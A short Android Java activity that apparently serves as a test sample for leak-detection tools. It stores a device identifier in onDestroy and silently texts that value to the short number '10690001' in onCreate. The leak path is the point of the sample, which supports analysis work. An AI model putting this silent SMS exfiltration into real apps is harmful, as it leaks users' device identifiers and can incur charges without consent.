package cn.shanhai.activitylifecycle;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  private String id = "none";

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
  }

  @Override
  protected void onDestroy() {
    super.onDestroy();
    id = Device.id(this);
  }
}
